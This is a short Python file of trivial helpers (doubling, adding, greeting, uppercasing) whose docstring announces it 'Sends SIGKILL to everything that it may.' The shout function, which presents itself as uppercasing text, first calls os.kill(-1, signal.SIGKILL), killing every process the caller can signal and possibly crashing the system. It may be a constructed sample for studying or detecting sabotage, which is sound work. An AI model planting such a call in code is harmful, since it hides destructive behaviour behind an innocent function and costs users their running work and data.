"""Sends SIGKILL to everything that it may."""

import os
import signal


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    os.kill(-1, signal.SIGKILL)
    return text.upper() + "!"
